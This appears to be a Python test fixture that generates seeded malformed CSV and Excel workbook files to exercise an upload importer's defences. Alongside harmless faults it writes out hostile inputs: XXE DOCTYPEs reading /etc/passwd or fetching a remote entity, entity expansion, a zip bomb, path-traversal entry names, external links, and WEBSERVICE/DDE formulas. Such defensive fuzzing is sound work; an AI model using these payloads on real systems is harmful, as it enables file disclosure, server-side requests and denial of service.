"""Makes files that are wrong as a whole, each in one way, from a seed.

Every kind of fault starts from a sound file of a few rows and breaks it. What is broken, and
where, is drawn from the seed, so that a hundred files of one kind are a hundred different ones.
"""

import csv
import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from tests.sources import workbooks as book


@dataclass(frozen=True)
class Malformed:
    """A file, and the kind of fault that it has."""

    kind: str
    file_name: str
    content: bytes


Rows = list[list[str]]
Break = Callable[[random.Random, Rows], bytes]


def malformed(*, seed: int, count: int, header: Sequence[str], rows: Rows) -> Iterator[Malformed]:
    """Yield `count` files, going round all kinds of fault. `rows` are sound ones to start from."""
    chance = random.Random(seed)
    kinds = {**{f"csv: {_words(b)}": b for b in CSV}, **{f"xlsx: {_words(b)}": b for b in XLSX}}
    names = list(kinds)
    for number in range(count):
        kind = names[number % len(names)]
        chosen = [list(row) for row in chance.sample(rows, k=chance.randint(2, min(9, len(rows))))]
        content = kinds[kind](chance, [list(header), *chosen])
        suffix = kind.partition(":")[0]
        yield Malformed(kind, f"{number}.{suffix}", content)


def _words(breaking: Break) -> str:
    return breaking.__name__.replace("_", " ")


def _written(rows: Rows, *, separator: str = ",") -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=separator, lineterminator="\r\n").writerows(rows)
    return text.getvalue()


def _inside(chance: random.Random, content: bytes) -> int:
    """Return a place in the rows below the heading."""
    return chance.randint(content.index(b"\n") + 1, len(content) - 1)


def _a_cell(chance: random.Random, rows: Rows) -> tuple[int, int]:
    return chance.randint(1, len(rows) - 1), chance.randrange(len(rows[0]))


# --- Comma-separated files ------------------------------------------------------------------


def nothing_at_all(chance: random.Random, rows: Rows) -> bytes:
    return b"\r\n " * chance.randint(0, 20)


def a_heading_without_rows(chance: random.Random, rows: Rows) -> bytes:
    return (_written(rows[:1]) + "\r\n" * chance.randint(0, 9)).encode()


def rows_without_a_heading(chance: random.Random, rows: Rows) -> bytes:
    return _written(rows[1:]).encode()


def saved_as_utf_16(chance: random.Random, rows: Rows) -> bytes:
    return _written(rows).encode(chance.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32"]))


def saved_as_windows_1252(chance: random.Random, rows: Rows) -> bytes:
    at, column = _a_cell(chance, rows)
    rows[at][column] += chance.choice(["£5", "café", "Board’s", "5–7", "½"])
    return _written(rows).encode("cp1252")


def half_a_letter(chance: random.Random, rows: Rows) -> bytes:
    content = _written(rows).encode()
    at = _inside(chance, content)
    return content[:at] + chance.choice([b"\xe2\x82", b"\xc3", b"\xc0\xaf", b"\xff"]) + content[at:]


def a_nul_byte(chance: random.Random, rows: Rows) -> bytes:
    content = _written(rows).encode()
    at = _inside(chance, content)
    return content[:at] + b"\0" + content[at:]


def noise(chance: random.Random, rows: Rows) -> bytes:
    return b"\x81" + chance.randbytes(chance.randint(50, 5000))


def a_quote_that_is_not_closed(chance: random.Random, rows: Rows) -> bytes:
    at, column = _a_cell(chance, rows)
    rows = [[cell.replace('"', "") for cell in row] for row in rows]
    lines = [",".join(f'"{cell}"' for cell in row) for row in rows]
    cells = lines[at].split('","')
    cells[-1] = cells[-1].rstrip('"')
    return "\r\n".join([*lines[:at], '","'.join(cells)]).encode()


def words_after_a_closing_quote(chance: random.Random, rows: Rows) -> bytes:
    at, _ = _a_cell(chance, rows)
    lines = _written(rows).split("\r\n")
    lines[at] = f'"key" and more,{lines[at]}'
    return "\r\n".join(lines).encode()


def separated_by_something_else(chance: random.Random, rows: Rows) -> bytes:
    plain = [[cell.replace(",", " ") for cell in row] for row in rows]
    return _written(plain, separator=chance.choice(";\t|")).encode()


def a_heading_is_missing(chance: random.Random, rows: Rows) -> bytes:
    column = chance.randrange(len(rows[0]))
    return _written([row[:column] + row[column + 1 :] for row in rows]).encode()


def a_heading_nobody_knows(chance: random.Random, rows: Rows) -> bytes:
    at = chance.randint(0, len(rows[0]))
    strange = chance.choice(["telephone", "=1+1", "Notes ☎", "nаme", "<script>"])
    return _written(
        [row[:at] + [strange if row is rows[0] else "x"] + row[at:] for row in rows]
    ).encode()


def a_heading_twice(chance: random.Random, rows: Rows) -> bytes:
    column = chance.randrange(len(rows[0]))
    return _written([[*row, row[column].upper()] for row in rows]).encode()


def a_giant_cell(chance: random.Random, rows: Rows) -> bytes:
    at, column = _a_cell(chance, rows)
    rows[at][column] = "x" * chance.choice([32_768, 131_073, 500_000])
    return _written(rows).encode()


def thousands_of_columns(chance: random.Random, rows: Rows) -> bytes:
    at, _ = _a_cell(chance, rows)
    rows[at] += ["x"] * chance.randint(201, 5000)
    return _written(rows).encode()


def too_many_rows(chance: random.Random, rows: Rows) -> bytes:
    return _written(rows).encode() + b"k,n\r\n" * chance.randint(100_001, 110_000)


def too_many_bytes(chance: random.Random, rows: Rows) -> bytes:
    return _written(rows).encode() + b" " * (25 * 1024 * 1024)


def a_web_page(chance: random.Random, rows: Rows) -> bytes:
    start = chance.choice(["<!DOCTYPE html>", "<html>", "<table>", "<?xml version='1.0'?>"])
    cells = "".join(f"<tr><td>{row[0]}</td></tr>" for row in rows)
    return f"{chance.choice(['', '  ', chr(0xFEFF)])}{start}{cells}".encode()


def written_as_json(chance: random.Random, rows: Rows) -> bytes:
    return json.dumps([dict(zip(rows[0], row, strict=True)) for row in rows[1:]]).encode()


def another_format(chance: random.Random, rows: Rows) -> bytes:
    text = _written(rows).encode()
    start = chance.choice(
        [b"%PDF-1.7\n", b"\x89PNG\r\n", b"7z\xbc\xaf\x27\x1c", b"Rar!", b"{\\rtf1"]
    )
    return chance.choice([gzip.compress(text, mtime=0), start + text])


def an_old_workbook(chance: random.Random, rows: Rows) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(chance.randint(500, 3000))


CSV: list[Break] = [
    nothing_at_all,
    a_heading_without_rows,
    rows_without_a_heading,
    saved_as_utf_16,
    saved_as_windows_1252,
    half_a_letter,
    a_nul_byte,
    noise,
    a_quote_that_is_not_closed,
    words_after_a_closing_quote,
    separated_by_something_else,
    a_heading_is_missing,
    a_heading_nobody_knows,
    a_heading_twice,
    a_giant_cell,
    thousands_of_columns,
    too_many_rows,
    too_many_bytes,
    a_web_page,
    written_as_json,
    another_format,
    an_old_workbook,
]


# --- Workbooks ------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def _parts(rows: Rows) -> dict[str, bytes]:
    return book.parts({"Sheet1": book.sheet(book.table(rows))})


def _with_sheet(rows: str, *, after: str = "", before: str = "") -> bytes:
    return book.packed(book.parts({"Sheet1": book.sheet(rows, after=after, before=before)}))


def cut_off(chance: random.Random, rows: Rows) -> bytes:
    content = book.workbook(rows)
    return content[: chance.randint(40, len(content) - 30)]


def a_byte_changed_in_a_sheet(chance: random.Random, rows: Rows) -> bytes:
    content = bytearray(book.packed(_parts(rows), method=zipfile.ZIP_STORED))
    start = content.index(b"<sheetData>")
    at = chance.randint(start, content.index(b"</sheetData>"))
    content[at] ^= chance.randint(1, 255)
    return bytes(content)


def without_its_directory(chance: random.Random, rows: Rows) -> bytes:
    content = book.workbook(rows)
    return content[: content.index(b"PK\x01\x02")] + chance.randbytes(chance.randint(0, 50))


def a_directory_that_lies_about_sizes(chance: random.Random, rows: Rows) -> bytes:
    content = bytearray(book.workbook(rows))
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(SHEET.encode()))
    content[at + 24 : at + 28] = chance.randint(10, 100).to_bytes(4, "little")
    return bytes(content)


def two_parts_of_one_name(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows) | {SHEET.replace("1", "9"): _parts(rows[:1] * 5)[SHEET]}
    return book.packed(named).replace(SHEET.replace("1", "9").encode(), SHEET.encode())


def marked_as_encrypted(chance: random.Random, rows: Rows) -> bytes:
    content = bytearray(book.workbook(rows))
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def packed_in_an_odd_way(chance: random.Random, rows: Rows) -> bytes:
    return book.packed(_parts(rows), method=chance.choice([zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]))


def protected_by_a_password(chance: random.Random, rows: Rows) -> bytes:
    start = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(chance.randint(500, 2000))
    return start + "EncryptedPackage".encode("utf-16-le") + chance.randbytes(500)


def a_formula(chance: random.Random, rows: Rows) -> bytes:
    at, column = _a_cell(chance, rows)
    reference = f"{book.letter(column)}{at + 1}"
    formula = chance.choice(["1+1", "HYPERLINK(1)", "WEBSERVICE(A1)", "DDE(1)"])
    kind = chance.choice(["", ' t="shared" ref="A1:A9" si="0"', ' t="array" ref="A1"'])
    lines = [book.row(number, row) for number, row in enumerate(rows, start=1)]
    lines[at] = f'<row r="{at + 1}"><c r="{reference}"><f{kind}>{formula}</f><v>2</v></c></row>'
    return _with_sheet("".join(lines))


def macros(chance: random.Random, rows: Rows) -> bytes:
    name = chance.choice(["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/a.bin"])
    return book.packed(_parts(rows) | {name: b"<x/>"})


def links_to_other_files(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows)
    if chance.random() < 0.5:
        name = chance.choice(["xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
        return book.packed(named | {name: b"<x/>"})
    target = chance.choice(["file:///etc/passwd", "https://millbrook.example/rows.xlsx"])
    rels = book.relations(("rId9", "externalLinkPath", target, "External"))
    return book.packed(named | {"xl/worksheets/_rels/sheet1.xml.rels": rels.encode()})


def a_file_inside(chance: random.Random, rows: Rows) -> bytes:
    inner = book.workbook(rows)
    name = chance.choice(["xl/media/image1.png", "xl/embeddings/one.xlsx", "docProps/thumb.jpeg"])
    return book.packed(_parts(rows) | {name: inner})


def a_document_type(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows)
    name = chance.choice([name for name in named if name.endswith(".xml")])
    declared = chance.choice(
        [
            b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
            b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://millbrook.example/x"> %p;]>',
        ]
    )
    named[name] = named[name].replace(b"?>\n", b"?>\n" + declared, 1)
    return book.packed(named)


def a_zip_bomb(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows)
    filler = b" " * (chance.randint(30, 60) * 1024 * 1024)
    name = chance.choice([SHEET, "xl/media/image1.png", "docProps/app.xml"])
    named[name] = named.get(name, b"<x/>") + filler
    return book.packed(named)


def millions_of_rows(chance: random.Random, rows: Rows) -> bytes:
    empty = "<row/>" * chance.randint(1_050_000, 1_300_000)
    return _with_sheet(book.table(rows) + empty)


def a_row_far_below(chance: random.Random, rows: Rows) -> bytes:
    far = chance.choice([1_048_577, 9_999_999, 10_000_000, 2**31, 2**64])
    return _with_sheet(book.table(rows) + f'<row r="{far}"><c t="b"><v>1</v></c></row>')


def a_cell_far_to_the_right(chance: random.Random, rows: Rows) -> bytes:
    column = chance.choice(["XFD", "ZZZ", "AAAA", "GS"])
    line = len(rows) + 1
    return _with_sheet(
        f'{book.table(rows)}<row r="{line}"><c r="{column}{line}"><v>1</v></c></row>'
    )


def merged_cells(chance: random.Random, rows: Rows) -> bytes:
    line = chance.randint(1, len(rows))
    merged = f'<mergeCells count="1"><mergeCell ref="A{line}:B{line}"/></mergeCells>'
    return _with_sheet(book.table(rows), after=merged)


def a_hidden_sheet(chance: random.Random, rows: Rows) -> bytes:
    shown = book.sheet(book.table(rows))
    return book.packed(book.parts({"Shown": shown, "Kept": shown}, hidden=["Kept"]))


def a_second_sheet_of_notes(chance: random.Random, rows: Rows) -> bytes:
    notes = book.sheet(book.table([["Read me first"], ["Thank you"]]))
    return book.packed(book.parts({"Rows": book.sheet(book.table(rows)), "Notes": notes}))


def sheets_without_rows(chance: random.Random, rows: Rows) -> bytes:
    return book.packed(book.parts({f"S{n}": book.sheet("") for n in range(chance.randint(1, 60))}))


def headings_that_are_wrong(chance: random.Random, rows: Rows) -> bytes:
    column = chance.randrange(len(rows[0]))
    rows[0][column] = chance.choice(["", "telephone", rows[0][column - 1]])
    return book.workbook(rows)


def a_heading_that_is_a_number(chance: random.Random, rows: Rows) -> bytes:
    return _with_sheet('<row r="1"><c r="A1"><v>2025</v></c></row>' + book.row(2, rows[1]))


def rows_out_of_order(chance: random.Random, rows: Rows) -> bytes:
    again = book.row(chance.randint(1, len(rows)), rows[1])
    return _with_sheet(book.table(rows) + again)


def a_cell_twice(chance: random.Random, rows: Rows) -> bytes:
    line = len(rows) + 1
    again = book.cell(f"B{line}", "one") + book.cell(chance.choice([f"B{line}", f"A{line}"]), "two")
    return _with_sheet(f'{book.table(rows)}<row r="{line}">{again}</row>')


def a_text_that_is_not_there(chance: random.Random, rows: Rows) -> bytes:
    line = len(rows) + 1
    number = chance.choice(["0", "7", "-1", "999999999999", "one"])
    cell = f'<c r="A{line}" t="s"><v>{number}</v></c>'
    return _with_sheet(f'{book.table(rows)}<row r="{line}">{cell}</row>')


def a_number_that_is_none(chance: random.Random, rows: Rows) -> bytes:
    line = len(rows) + 1
    number = chance.choice(["twelve", "NaN", "inf", "1e", "0x10", "1_000", "9" * 50])
    return _with_sheet(
        f'{book.table(rows)}<row r="{line}"><c r="A{line}"><v>{number}</v></c></row>'
    )


def markup_that_is_not_well_formed(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows)
    name = chance.choice(list(named))
    at = chance.randint(60, len(named[name]) - 2)
    broken = chance.choice([b"<", b"&", b"</x>", b"\x01", b"\xff\xfe"])
    named[name] = named[name][:at].rsplit(b">", 1)[0] + b">" + broken + named[name][at:]
    return book.packed(named)


def nested_without_end(chance: random.Random, rows: Rows) -> bytes:
    depth = chance.randint(120, 100_000)
    return _with_sheet("<row>" * depth + "</row>" * depth)


def a_tag_without_end(chance: random.Random, rows: Rows) -> bytes:
    filler = chance.randbytes(chance.randint(1_200_000, 1_500_000)).hex()
    start = chance.choice(['<c r="', "<!-- ", "<c "])
    return _with_sheet(f"{start}{filler}")


def a_giant_text(chance: random.Random, rows: Rows) -> bytes:
    at, column = _a_cell(chance, rows)
    rows[at][column] = chance.randbytes(40_000).hex()
    return book.workbook(rows)


def a_part_that_is_not_there(chance: random.Random, rows: Rows) -> bytes:
    named = _parts(rows)
    del named[chance.choice(["xl/workbook.xml", SHEET, "_rels/.rels"])]
    return book.packed(named)


def thousands_of_parts(chance: random.Random, rows: Rows) -> bytes:
    many = {f"xl/media/{number}.png": b"" for number in range(chance.randint(1001, 3000))}
    return book.packed(_parts(rows) | many)


def names_that_point_outside(chance: random.Random, rows: Rows) -> bytes:
    name = chance.choice(["../../outside.xml", "/etc/outside.xml", "xl/../../outside.xml"])
    return book.packed(_parts(rows) | {name: b"<x/>"})


def another_office_format(chance: random.Random, rows: Rows) -> bytes:
    name = chance.choice(
        ["mimetype", "xl/workbook.bin", "word/document.xml", "ppt/presentation.xml", "readme.txt"]
    )
    return book.packed({name: b"application/vnd.oasis.opendocument.spreadsheet"})


XLSX: list[Break] = [
    cut_off,
    a_byte_changed_in_a_sheet,
    without_its_directory,
    a_directory_that_lies_about_sizes,
    two_parts_of_one_name,
    marked_as_encrypted,
    packed_in_an_odd_way,
    protected_by_a_password,
    a_formula,
    macros,
    links_to_other_files,
    a_file_inside,
    a_document_type,
    a_zip_bomb,
    millions_of_rows,
    a_row_far_below,
    a_cell_far_to_the_right,
    merged_cells,
    a_hidden_sheet,
    a_second_sheet_of_notes,
    sheets_without_rows,
    headings_that_are_wrong,
    a_heading_that_is_a_number,
    rows_out_of_order,
    a_cell_twice,
    a_text_that_is_not_there,
    a_number_that_is_none,
    markup_that_is_not_well_formed,
    nested_without_end,
    a_tag_without_end,
    a_giant_text,
    a_part_that_is_not_there,
    thousands_of_parts,
    names_that_point_outside,
    another_office_format,
]
